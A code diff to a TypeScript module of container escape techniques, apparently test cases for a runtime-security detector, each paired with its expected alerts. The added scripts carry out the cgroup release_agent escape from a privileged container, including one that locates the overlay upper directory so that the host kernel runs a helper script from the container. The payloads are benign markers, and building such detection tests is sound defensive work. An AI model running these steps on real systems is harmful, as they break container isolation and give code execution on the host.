@@ -1,5 +1,17 @@
 import type { Technique } from "./technique.ts";
 
+/**
+ * Done in a cgroup hierarchy of its own, at `$at`, with a cgroup `out-HOST`. Nothing is left of it: one that is unmounted
+ * while a cgroup of it is still being removed stays, until it is mounted and unmounted again.
+ */
+function inHierarchy(name: string, script: string): string {
+  const mount = `mount -t cgroup -o none,name=${name} x $at`;
+  return `at=/tmp/${name}; mkdir $at; ${mount} && usleep 300000; mkdir $at/out-HOST
+    ${script}
+    rmdir $at/out-HOST
+    for i in $(seq 20); do umount $at; usleep 100000; grep -q name=${name}: /proc/self/cgroup || break; ${mount}; done`;
+}
+
 /** Ways out of a container. */
 export const escapes: Technique[] = [
   {
@@ -33,13 +45,33 @@ export const escapes: Technique[] = [
   {
     what: "release_agent, all the way: the host starts a program",
     in: "privileged",
-    script: `at=/tmp/cg/out-HOST; mkdir /tmp/cg; mount -t cgroup -o none,name=bulwark-HOST x /tmp/cg && usleep 300000
-      mkdir $at; echo 1 >$at/notify_on_release; echo /bin/true >/tmp/cg/release_agent; /bin/sh -c "echo 0 >$at/cgroup.procs"
-      usleep 500000; echo 0 >$at/notify_on_release; rmdir $at; umount /tmp/cg`,
+    script: inHierarchy(
+      "bulwark-HOST",
+      `echo /bin/true >$at/release_agent; echo 1 >$at/out-HOST/notify_on_release
+      sh -c "echo 0 >$at/out-HOST/cgroup.procs"; usleep 500000`,
+    ),
     alerts: {
-      "release-agent-of-a-cgroup-written": { "fd.name": "/tmp/cg/release_agent" },
+      "release-agent-of-a-cgroup-written": { "fd.name": "/release_agent" },
       "notification-of-an-empty-cgroup-switched-on": { "fd.name": "/notify_on_release" },
     },
+    kernel: "/sys/fs/cgroup/unified",
+  },
+  {
+    what: "the program that a release agent is, one of the container's own",
+    in: "privileged",
+    // As the host sees it. What it writes is told by a file that was there: the overlay keeps in mind what was not.
+    script: inHierarchy(
+      "bulwark-helper-HOST",
+      `upper=$(busybox sed -n 's/.* \\/ \\/ .*upperdir=\\([^,]*\\).*/\\1/p' /proc/self/mountinfo); : >/tmp/ran-HOST
+      printf '#!/bin/sh\\necho x >"\${0%%/*}/ran-HOST"\\n' >/tmp/helper-HOST; chmod 755 /tmp/helper-HOST
+      echo $upper/tmp/helper-HOST >$at/release_agent; echo 1 >$at/out-HOST/notify_on_release
+      sh -c "echo 0 >$at/out-HOST/cgroup.procs"
+      for i in $(seq 200); do [ -s /tmp/ran-HOST ] && break; usleep 100000; done`,
+    ),
+    alerts: { "kernel-helper": { command: "/tmp/helper-HOST /out-HOST" } },
+    rules: ["program-started-by-the-kernel"],
+    outside: true,
+    waits: true,
     kernel: "/sys/fs/cgroup/unified",
   },
   {
